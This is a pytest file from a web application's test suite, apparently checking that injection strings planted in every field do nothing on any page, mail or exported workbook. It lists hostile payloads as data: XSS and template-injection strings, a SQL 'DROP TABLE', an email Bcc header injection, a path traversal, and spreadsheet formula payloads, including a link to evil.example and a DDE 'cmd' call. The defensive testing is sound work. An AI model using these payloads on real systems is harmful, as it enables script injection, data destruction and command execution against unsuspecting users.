"""Rows 13, 14 and 17 of the matrix: strange words in every field, and what comes out of them.

Generated from the map of addresses: a page that is added tomorrow is tried tomorrow.
"""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser

import openpyxl
import pytest
from sqlalchemy import select

from tests.webapp.test_confidences import crawl
from tests.webapp.test_routes import PEOPLE, filled, ids_of, routes
from tests.webapp.world import World
from webapp.db import transaction
from webapp.models import Account, Declaration, Firm, PartyRow, Round, Site, Territory
from webapp.operations import scope
from webapp.pages.access import ACCESS
from webapp.policy import Role, is_allowed

MARK = "zqx"
STRANGE = (
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"'><svg/onload={MARK}()>",
    f"javascript:{MARK}()",
    f"</textarea></title></style><script>{MARK}()</script>",
    f"<a href=javascript:{MARK}()>x</a>",
    f'" autofocus onfocus={MARK}() x="',
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={MARK}()>",
    f"{MARK}{{{{ 7*191 }}}}{{% for x in () %}}",
    f"{MARK}${{7*191}}#{{7*191}}<%= 7*191 %>",
    f"{MARK}{{0.__class__}} %(x)s %s %n",
    f"{MARK}' OR 1=1; DROP TABLE firm; --",
    f"{MARK}\r\nBcc: evil@evil.example\r\n\r\nbody",
    f"{MARK}\u202egnp.exe\u2066\u0000\ufeff",
    f'=HYPERLINK("http://evil.example/{MARK}";"x")',
    f"=cmd|' /C calc'!A0 {MARK}",
    f"+1+1 {MARK}",
    f"-1+1 {MARK}",
    f"@SUM(1+1) {MARK}",
    f"\t=1+1 {MARK}",
)
GARBAGE = (
    "", " ", "0", "-1", "1e308", "1e309", "NaN", "inf", "9" * 400, "٣", "½", "0001-01-01",
    "9999-12-31", "2027-02-30", "31/02/2027", "\x00", "a\x00b", "\U0001f600", "é" * 3000,
    "x" * 100_000, "../../etc/passwd", "null", "true", "[]", "{}", "accepted", "pending",
    "%s%s%n", "\u202e", *STRANGE[:6],
)  # fmt: skip
FIELD = re.compile(r'<(?:input|select|textarea)[^>]* name="([^"]+)"')


def plant(world: World, strange: str) -> None:
    """The words in every text that a firm, an agent or an administrator can write."""
    with transaction(world.engine, world.info) as session:
        for item in session.scalars(select(Declaration)):
            row = scope.opened(session, item.response.firm, item.row)
            for name in ("description", "spec", "title", "text", "today_solution", "note"):
                if name in row or name == "description":
                    row[name] = strange
            item.row = scope.sealed(session, item.response.firm, row)
        for kind in (Firm, Site, Round, Territory):
            for row in session.scalars(select(kind)):
                row.name = strange
        for account in session.scalars(select(Account)):
            person = world.vault.open(account.keys, account.personal)
            person["name"] = person["phone"] = strange
            account.personal = world.vault.seal(account.keys, person)
        for party in session.scalars(select(PartyRow)):
            party.reason = scope.sealed(session, party.firm, {"text": strange, "question": strange})


class Elements(HTMLParser):
    """What a page's tags would do: names of elements, of attributes, places that links lead to."""

    def __init__(self) -> None:
        super().__init__()
        self.acts: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        for name, value in attrs:
            if name.startswith("on") or name in {"srcdoc", "style"}:
                self.acts.append(f"{tag} {name}")
            if name in {"href", "src", "action", "formaction"}:
                if re.match(r"\s*(javascript|vbscript|data:text)", value or "", re.IGNORECASE):
                    self.acts.append(f"{tag} {name}={value}")
        if tag in {"iframe", "object", "embed", "math", "base", "style"}:
            self.acts.append(tag)
        if tag == "script" and not dict(attrs).get("src", "").startswith("/f/"):
            self.acts.append("script")


def acts_in(page: str) -> list[str]:
    elements = Elements()
    elements.feed(page)
    return elements.acts


def test_the_looking_glass_sees_what_acts():
    """Each strange word, put into a page as it is, would have been seen or is only text."""
    seen = sum(
        bool(acts_in(f'<p title="x">{text}</p><input value="{text}">')) for text in STRANGE[:9]
    )
    assert seen >= 8


@pytest.mark.slow
@pytest.mark.parametrize("place", range(3))
def test_strange_words_in_every_field_do_nothing_on_any_page_of_anybody(world, place):
    """Seven words a world; every page that each role reaches, and every mail."""
    pages = 0
    for strange in STRANGE[place::3]:
        plant(world, strange)
        world.let_mails_wait_again()
        for role, address in PEOPLE.items():
            visitor = world.signed_in(address)
            for path, text in crawl(visitor, "/", most=60).items():
                pages += 1
                if "text/html" not in text:
                    assert "nosniff" in text and "attachment" in text, path
                    continue
                assert acts_in(text) == [], f"{role} {path}: {strange!r}"
                assert "1337" not in text.replace(" ", ""), f"reckoned on {path}"
                assert "Traceback" not in text and "UndefinedError" not in text
        for message in world.letters.messages:
            assert message["Bcc"] is None and "evil" not in str(message["To"])
            assert "\n" not in message["Subject"]
    assert pages >= 200


@pytest.mark.slow
def test_what_is_given_as_a_workbook_or_a_table_holds_no_formula(world):
    """Every page of every role that is a file: cells read again by openpyxl are text."""
    ids = ids_of(world)
    for strange in STRANGE[-6:]:
        plant(world, strange)
        for role, address in PEOPLE.items():
            visitor = world.signed_in(address)
            for endpoint, method, rule in routes(world.app()):
                if method != "GET" or not is_allowed(role, ACCESS[endpoint]):
                    continue
                answer = visitor.get(filled(rule, ids))
                kind = answer.headers.get("Content-Type", "")
                if "spreadsheetml" in kind:
                    book = openpyxl.load_workbook(io.BytesIO(answer.data))
                    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
                    assert not [c.coordinate for c in cells if c.data_type == "f"], rule
                elif "text/csv" in kind:
                    for line in answer.get_data(as_text=True).splitlines():
                        for cell in line.split(";"):
                            assert not cell.lstrip('"\t\r ').startswith(("=", "+", "@")), rule


@pytest.mark.slow
@pytest.mark.parametrize("role", [Role.MANAGER, Role.AGENT, Role.ADMINISTRATOR, Role.DPO], ids=str)
def test_no_garbage_in_any_form_makes_a_page_fail(world, role, caplog):
    """Every form of a role, with 35 kinds of garbage in every field that a page names."""
    visitor, ids = world.signed_in(PEOPLE[role]), ids_of(world, own_firm(role))
    rules = [
        (method, filled(rule, ids))
        for endpoint, method, rule in routes(world.app())
        if is_allowed(role, ACCESS[endpoint]) and endpoint != "account.sign_out"
    ]
    names = {
        name
        for method, path in rules
        if method == "GET"
        for name in FIELD.findall(visitor.get(path).get_data().decode(errors="replace"))
    } - {"csrf_token"}
    names |= {"decision", "version", "reason", "question", "outcome", "minutes", "until", "place"}
    mark, posted = visitor.mark(), 0
    for method, path in rules:
        if method != "POST":
            continue
        for number in range(0, len(GARBAGE), 3):
            fields = {
                name: GARBAGE[(number + shift) % len(GARBAGE)]
                for shift, name in enumerate(sorted(names))
            }
            answer = visitor.post(path, csrf_token=mark, **fields)
            assert answer.status_code < 500, f"{path} {number}"
            posted += 1
    assert posted >= 12
    assert not [record for record in caplog.records if record.levelname == "ERROR"]


def own_firm(role: Role) -> str | None:
    """A manager's forms are tried on what is its own."""
    return "Moulages Tessonnet" if role is Role.MANAGER else None
